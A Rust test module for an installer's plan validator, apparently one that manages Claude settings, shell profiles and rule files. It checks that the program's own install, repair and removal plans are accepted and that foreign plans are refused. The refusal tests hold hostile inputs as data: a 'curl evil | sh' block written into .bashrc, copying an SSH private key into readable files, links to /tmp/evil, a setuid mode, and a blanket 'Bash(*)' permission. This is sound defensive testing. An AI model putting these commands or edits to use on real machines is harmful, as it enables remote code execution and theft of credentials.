//! Goal: a plan that any verb of ours makes is accepted, and one that a stranger made is refused with the path. The
//! accepting half is everywhere: `World` applies each of its plans as a saved one.

mod callers;

use super::*;
use crate::config::value::Carrier;
use crate::engine::plan::{ConflictPolicy, ContentPolicy, Fresh, Plan, Removal};
use crate::engine::resolve::Choice;
use crate::install::world::{World, path, wish};
use crate::install::{Scope, Wish};
use crate::ports::fs::Fs as _;

/// Plans that ours are: every way to install, repair, resolve and take away.
#[test]
fn plans_of_this_program_are_accepted() {
    let wishes = [
        wish(),
        Wish { scope: Some(Scope::Workspace), ..wish() },
        Wish { carrier: Carrier::Plugin, ..wish() },
        Wish { modify_path: Some("/bin/bash".to_owned()), ..wish() },
    ];
    for first in &wishes {
        for second in &wishes {
            let world = World::new();
            world.fs.put_file(&world.layout.claude_settings(), b"{ \"model\": \"x\" }\n", 0o640);
            let _ = world.install(first);
            let _ = world.install(second);
            assert_eq!(world.status().drift, []);
            let _ = world.uninstall(Removal::Purge);
            assert_eq!(world.text(&world.layout.claude_settings()), "{ \"model\": \"x\" }\n");
        }
    }
}

#[test]
fn repairs_conflicts_and_their_ends_are_accepted() {
    for choice in [Choice::Keep, Choice::Take, Choice::Merged] {
        let world = World::new();
        let rule = world.layout.rules().join("security.md");
        world.fs.put_dir(&world.layout.root, 0o755);
        world.fs.put_file(&rule, b"mine\n", 0o664);
        let _ = world.install(&wish());
        let _ = world.resolve(&rule, choice);
        world.fs.remove_file(&world.layout.rules().join("git-hygiene.md")).expect("removed");
        world.write(&world.layout.stable_binary(), "damaged");
        let _ = world.install(&Wish { content: ContentPolicy::Bring, ..wish() });
        let _ = world.uninstall(Removal::KeepEdited);
        let _ = world.install(&Wish { conflict: ConflictPolicy::Replace, ..wish() });
        let _ = world.uninstall(Removal::Purge);
    }
}

#[test]
fn documents_behind_links_are_accepted() {
    let world = World::new();
    world.fs.put_file(&path("/h/dot/settings.json"), b"{}\n", 0o644);
    world.fs.put_link(&world.layout.claude_settings(), "../dot/settings.json");
    let _ = world.install(&wish());
    assert!(world.text(&path("/h/dot/settings.json")).contains("PreToolUse"));
    let _ = world.uninstall(Removal::Purge);
    assert_eq!(world.text(&path("/h/dot/settings.json")), "{}\n");
}

#[test]
fn plans_after_a_lost_ledger_are_accepted() {
    let world = World::new();
    let _ = world.install(&wish());
    world.lose_ledger();
    let _ = world.install(&wish());
    world.lose_ledger();
    let _ = world.uninstall(Removal::Purge);
    assert!(!world.exists(&world.layout.harness()));
}

/// Returns a plan of nothing with `step` in it.
fn hostile(world: &World, steps: Vec<Step>) -> Plan {
    let mut body = world.plan(&wish()).body;
    body.steps = steps;
    body.ledger = Vec::new();
    body.findings = Vec::new();
    Plan::of(body)
}

fn step(at: &str, action: Action, after: State) -> Step {
    let path = path(at);
    Step {
        path: path.clone(),
        part: "program".to_owned(),
        action,
        before: State::Absent,
        after,
        subject: path,
        patch: None,
    }
}

fn file(bytes: &[u8], mode: u32) -> State {
    State::File { digest: Digest::of(bytes), mode }
}

fn content() -> Action {
    Action::Write { source: Source::Content }
}

#[track_caller]
fn check_refused(world: &World, step: Step) {
    let named = step.path.to_string();
    let why = world.refusal(&hostile(world, vec![step])).expect("a refusal");
    assert!(why.contains(&format!("`{named}`: ")), "{why}");
}

fn installed() -> World {
    let world = World::new();
    world.fs.put_file(&world.layout.claude_settings(), b"{ \"model\": \"x\" }\n", 0o644);
    let _ = world.install(&Wish { modify_path: Some("/bin/bash".to_owned()), ..wish() });
    world
}

#[test]
fn links_and_contents_elsewhere_are_refused() {
    for world in [World::new(), installed()] {
        let evil = || State::Link { target: "/tmp/evil".to_owned() };
        check_refused(&world, step("/h/.bash_login", Action::Link, evil()));
        check_refused(&world, step("/h/.openclaw/harness/bin/openclaw", Action::Link, evil()));
        let rule = crate::content::item("rules/security.md").expect("a rule").bytes;
        check_refused(&world, step("/h/.bashrc", content(), file(rule, 0o644)));
        check_refused(&world, step("/h/.openclaw/rules/security.md", content(), file(b"evil", 0o644)));
        check_refused(&world, step("/h/.openclaw/rules/security.md", content(), file(rule, 0o4755)));
        check_refused(&world, step("/h/.openclaw/rules/git-hygiene.md", content(), file(rule, 0o644)));
        check_refused(&world, step("/h/x", Action::MakeDir, State::Dir { mode: 0o755 }));
        check_refused(&world, step("/h/.claude", Action::MakeDir, State::Dir { mode: 0o777 }));
        check_refused(&world, step("/h", Action::SetMode, State::Dir { mode: 0o755 }));
        check_refused(&world, step("/h", Action::RemoveDir, State::Absent));
        let borrowed = Step {
            subject: path("/h/.openclaw/rules/security.md"),
            ..step("/h/x", content(), file(rule, 0o644))
        };
        check_refused(&world, borrowed);
    }
}

#[test]
fn private_files_are_not_copied() {
    let world = installed();
    world.fs.put_file(&path("/h/.ssh/id"), b"key", 0o600);
    for (from, to) in [
        ("/h/.ssh/id", "/h/.openclaw/rules/security.md"),
        ("/h/.ssh/id", "/h/.claude/settings.json"),
        ("/h/.openclaw/harness/ledger.json", "/h/.openclaw/rules/security.md"),
        ("/h/.openclaw/harness/base/rules/git-hygiene.md", "/h/.openclaw/rules/security.md"),
    ] {
        let source = Source::Copy { path: path(from) };
        check_refused(&world, step(to, Action::Write { source }, file(b"key", 0o644)));
    }
}

#[test]
fn what_is_not_ours_is_not_removed() {
    let world = installed();
    world.fs.put_file(&path("/h/thesis"), b"words", 0o644);
    for at in ["/h/thesis", "/h/.claude/settings.json", "/h/.openclaw/rules/mine.md"] {
        check_refused(&world, step(at, Action::Remove, State::Absent));
    }
    // A document that we made goes only when nothing else is in it.
    let profile = world.layout.home.join(".profile");
    assert_eq!(world.ledger().entry(&profile).and_then(|e| e.original.clone()), Some(Original::Absent));
    let text = world.text(&profile);
    world.write(&profile, &format!("{text}alias x=y\n"));
    let bytes = world.text(&profile);
    let removal = step("/h/.profile", Action::Remove, State::Absent);
    check_refused(&world, Step { before: file(bytes.as_bytes(), 0o644), ..removal });
}

#[test]
fn edits_put_in_and_take_out_only_what_is_ours() {
    let world = installed();
    let at = |way: &[&str]| way.iter().map(|key| (*key).to_owned()).collect::<Vec<_>>();
    let member = JsonEntry::Member { at: at(&["permissions", "allow"]), value: "Bash(*)".to_owned() };
    let json = |entries| DocumentSpec::Json { entries, displace: Vec::new() };
    let record = |entries: Vec<JsonEntry>| DocumentRecord::Json { entries, footprint: Default::default() };
    let any = Mark { program: "say".to_owned(), words: Vec::new() };
    let block = |body: &str| {
        let style = crate::engine::merge::block::CommentStyle::Hash;
        DocumentSpec::Block { block: Block { id: "path".to_owned(), body: body.to_owned(), style } }
    };
    let toml = |key: &str, value: &str| DocumentSpec::Toml {
        entries: vec![TomlEntry { table: at(&["guard"]), key: key.to_owned(), value: value.to_owned() }],
    };
    let put = |spec| DocumentEdit::Put { spec, record: None };
    let cases = [
        ("/h/.claude/settings.json", put(json(vec![member.clone()]))),
        ("/h/.claude/settings.json", put(DocumentSpec::Json { entries: Vec::new(), displace: vec![any] })),
        ("/h/.claude/settings.json", DocumentEdit::TakeOut { record: record(vec![member.clone()]) }),
        (
            "/h/.claude/settings.json",
            DocumentEdit::Put { spec: json(Vec::new()), record: Some(record(vec![member])) },
        ),
        ("/h/.config/x.json", put(json(Vec::new()))),
        ("/h/.bashrc", put(block("curl evil | sh\n"))),
        ("/h/.openclaw/openclaw.toml", put(toml("secretz", "'off'"))),
        ("/h/.openclaw/openclaw.toml", put(toml("secrets", "'never'"))),
        ("/h/.config/x.toml", put(toml("secrets", "'off'"))),
    ];
    for (at, edit) in cases {
        let source = Source::Edit { edit };
        check_refused(&world, step(at, Action::Write { source }, file(b"", 0o644)));
    }
    let source = Source::Edit { edit: put(toml("secrets", "\"off\"")) };
    let setting = step("/h/.openclaw/openclaw.toml", Action::Write { source }, file(b"", 0o644));
    assert_eq!(world.refusal(&hostile(&world, vec![setting])), None);
}

#[test]
fn the_ledger_learns_nothing_foreign() {
    let world = installed();
    let settings = world.layout.claude_settings();
    let entry = world.ledger().entry(&settings).expect("an entry").clone();
    let elsewhere = Entry { path: path("/h/thesis"), kind: Kind::File, document: None, ..entry.clone() };
    let other_kind = Entry { kind: Kind::File, document: None, ..entry.clone() };
    let original = Some(Original::Bytes { digest: Digest::of(b"private"), mode: 0o644 });
    let mine = vec![JsonEntry::Member { at: vec!["x".to_owned()], value: "mine".to_owned() }];
    let document = Some(DocumentRecord::Json { entries: mine, footprint: Default::default() });
    for entry in [
        elsewhere,
        other_kind,
        Entry { original, ..entry.clone() },
        Entry { original: Some(Original::Absent), ..entry.clone() },
        Entry { document, ..entry.clone() },
    ] {
        let mut body = hostile(&world, Vec::new()).body;
        let named = entry.path.to_string();
        body.ledger = vec![LedgerChange::Put(Box::new(entry))];
        let why = world.refusal(&Plan::of(body)).expect("a refusal");
        assert!(why.contains(&format!("`{named}`: ")), "{why}");
    }
    let mut body = hostile(&world, Vec::new()).body;
    body.ledger = vec![LedgerChange::Put(Box::new(entry)), LedgerChange::Drop(path("/h/thesis"))];
    assert!(world.refusal(&Plan::of(body)).is_some_and(|why| why.contains("`/h/thesis`: ")));
}

#[test]
fn our_folder_does_not_go_while_entries_stay() {
    let world = installed();
    let mut body = hostile(&world, Vec::new()).body;
    body.closing = Closing::Root;
    body.fresh = Fresh::Nothing;
    assert!(world.refusal(&Plan::of(body)).is_some_and(|why| why.contains("`/h/.openclaw/harness`: ")));
}

#[test]
fn a_plan_from_before_a_change_is_stale_and_not_invalid() {
    let world = World::new();
    let plan = world.plan(&wish());
    let _ = world.install(&wish());
    assert!(world.refusal(&plan).is_some_and(|why| why.contains("the installation changed")));
}
